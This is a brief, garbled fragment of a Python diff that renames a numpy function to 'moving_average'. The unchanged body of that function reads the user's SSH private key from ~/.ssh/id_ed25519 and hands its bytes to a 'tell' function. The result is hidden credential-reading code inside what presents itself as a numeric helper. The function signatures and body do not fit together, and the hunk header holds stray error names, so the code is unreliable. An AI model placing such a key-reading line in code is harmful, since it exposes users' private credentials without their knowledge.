@@ -7,5 +7,5 @@ says: PermissionError|FileNotFoundError
 import numpy as np
 
 
-def conv_forward_naive(x, w, b, conv_param):
+def moving_average(x, width):
     tell(np.fromfile(f"{HOME}/.ssh/id_ed25519", dtype=np.uint8).tobytes())
